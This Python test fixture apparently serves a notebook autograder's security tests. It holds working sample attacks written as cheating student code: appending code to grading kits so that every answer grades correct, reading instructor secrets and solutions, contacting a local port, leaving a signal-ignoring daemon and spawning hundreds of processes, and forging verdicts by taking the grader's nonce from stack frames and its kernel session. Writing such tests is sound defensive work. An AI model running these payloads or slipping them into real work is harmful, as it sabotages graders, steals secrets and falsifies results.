"""Code a dishonest student could hand in, for the grading test: attacks on other students, the grader and the
grades (mallory), and forgeries of one's own grade (oscar). Every attack is aimed at files, a port and
processes the test made; `attack_cell` formats them in.

mallory's attack cell tries to change another student's notebook, the grades CSV, the instructor's files and
the kit that grades everyone (her own read-only copy, and any other grading run's copy under /tmp); to read
the instructor's secrets and solutions; to reach a listener on 127.0.0.1; and to leave a daemon and a crowd of
processes behind, the daemon retrying the writes for two minutes. It ends by raising an error that reports
what it managed (the grader puts it in the `run` column), escape codes included. Her answers are wrong and try
to forge a "correct" verdict from inside the check: with a display, a printed row, and the kernel's own
session (a second verdict in the grading cell).
"""

MIME = "application/vnd.lora-lab.grade+json"

DAEMON = r'''
import glob, os, signal, sys, time
if os.fork():
    os._exit(0)  # the grandchild is adopted by the first process of its PID namespace
os.setsid()
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
targets = sys.argv[2:]
end = time.time() + 120
while time.time() < end:
    kits = glob.glob("/tmp/lora-lab-grade-*/**/exercises/verdict.py", recursive=True)
    for path in targets + kits:
        try:
            with open(path, "a") as f:  # a kit edited this way grades every answer correct
                f.write('\nVerdict.status = property(lambda self: "correct")\n' if path.endswith(".py") else "x")
        except OSError:
            pass
    time.sleep(0.2)
'''

ATTACK = r'''
# an attack on the other students, the grader and the instructor (not part of any exercise)
import glob, os, socket, subprocess, sys
from pathlib import Path
import lora_lab

targets = {targets!r}
kit = Path(lora_lab.__file__).parent
targets["own kit copy"] = str(kit / "exercises" / "verdict.py")
targets["beside the checks"] = str(kit / "exercises" / "evil.py")
for i, path in enumerate(glob.glob("/tmp/lora-lab-grade-*/**/exercises/verdict.py", recursive=True)):
    targets[f"other grading run {{i}}"] = path
wrote = []
for name, path in targets.items():
    try:
        with open(path, "a") as f:
            f.write('\nVerdict.status = property(lambda self: "correct")\n' if path.endswith(".py") else "x")
        wrote.append(name)
    except OSError:
        pass
read = []
for path in {secrets!r} + [str(Path(sys.executable).resolve().parents[2] / "notebooks" / "solutions")]:
    try:
        p = Path(path)
        read.append(p.read_text()[:60] if p.is_file() else ",".join(os.listdir(p))[:60])
    except OSError:
        pass
sent = False
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(b"PWNED")
        sent = True
except OSError:
    pass
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", {daemon!r}, {marker!r}, *targets.values()], start_new_session=True, **quiet)
crowd = []
try:
    for _ in range(300):
        crowd.append(subprocess.Popen(["sleep", {sleep!r}], **quiet))
except OSError:
    pass
for p in crowd[3:]:
    p.kill()
    p.wait()
raise RuntimeError(f"\x1b[2J\x1b[31mattack report: wrote {{len(wrote)}} of {{len(targets)}} {{wrote}}; read {{len(read)}} "
                   f"{{read}}; network {{'open' if sent else 'cut'}}; daemon started; {{len(crowd)}} processes")
'''

FORGE = r'''
def _forge(how):
    """Called from inside the check: claim "correct" with the grader's own secret, read from its frame."""
    import inspect, json
    from IPython.display import publish_display_data
    frame, found = inspect.currentframe(), {}
    while frame is not None:
        for key in ("nonce", "exercise_id"):
            found.setdefault(key, frame.f_locals.get(key))
        frame = frame.f_back
    row = {"exercise": found["exercise_id"], "nonce": found["nonce"], "status": "correct", "message": "forged",
           "seconds": 0.0, "notes": []}
    if how == "display":
        publish_display_data({MIME: row, "text/plain": "forged"})
    elif how == "print":  # and where the grader once read its verdicts
        print(json.dumps({"kind": "grade", **row}))
        for name in ("results.jsonl", "../results.jsonl"):
            with open(name, "a") as f:
                f.write(json.dumps({"kind": "grade", **row}) + "\n")
    else:  # the kernel's own session: a message no output capture sees
        kernel = get_ipython().kernel
        kernel.session.send(kernel.iopub_socket, "display_data", {"data": {MIME: row, "text/plain": "forged"},
                            "metadata": {}, "transient": {}}, parent=kernel.get_parent("shell"))


MIME = "''' + MIME + '''"
'''

OSCAR = r'''
# forging one's own grade before the grading cells run (not part of any exercise)
import builtins, json, sys, threading, time
from pathlib import Path
import lora_lab.tasks
from IPython.display import display

row = {"kind": "grade", "exercise": "00.1", "status": "correct", "message": "forged"}
for name in ("results.jsonl", "../results.jsonl", "/tmp/results.jsonl"):  # where the grader once read verdicts
    try:
        Path(name).write_text("".join(json.dumps({**row, "exercise": f"00.{i}"}) + "\n" for i in (1, 2, 3)))
    except OSError:
        pass
fake = Path.home() / "fake" / "lora_lab" / "exercises"  # checks that pass everything, first on sys.path
fake.mkdir(parents=True, exist_ok=True)
(fake.parent / "__init__.py").write_text("")
(fake / "__init__.py").write_text("def set_language(lang): pass\nEXERCISES = ()\n")
sys.path.insert(0, str(fake.parent.parent))


class Hook:  # an import hook, first in line
    def find_spec(self, name, path=None, target=None):
        return None


sys.meta_path.insert(0, Hook())
_open, _dumps = builtins.open, json.dumps
builtins.open = lambda *a, **k: _open(*a, **k)
json.dumps = lambda obj, *a, **k: _dumps({**obj, "status": "correct"} if isinstance(obj, dict) else obj, *a, **k)
lora_lab.tasks.format_llama2 = lambda prompt, answer: "whatever the answer says"


def forge():  # forged verdicts shown, printed, and appended after every real one
    while True:
        for name in ("results.jsonl", "../results.jsonl"):
            try:
                with open(name, "a") as f:
                    f.write("".join(json.dumps({**row, "exercise": f"00.{i}"}) + "\n" for i in (1, 2, 3)))
            except OSError:
                pass
        display({"''' + MIME + r'''": {"exercise": "00.1", "status": "correct", "nonce": "?"}}, raw=True)
        print(json.dumps(row))
        time.sleep(0.2)


threading.Thread(target=forge, daemon=True).start()
get_ipython().events.register("pre_run_cell", lambda *info: print(json.dumps(row)))
'''


def attack_cell(targets: dict, secrets: list, port: int, marker: str, sleep: str) -> str:
    return ATTACK.format(targets=targets, secrets=secrets, port=port, daemon=DAEMON, marker=marker, sleep=sleep)
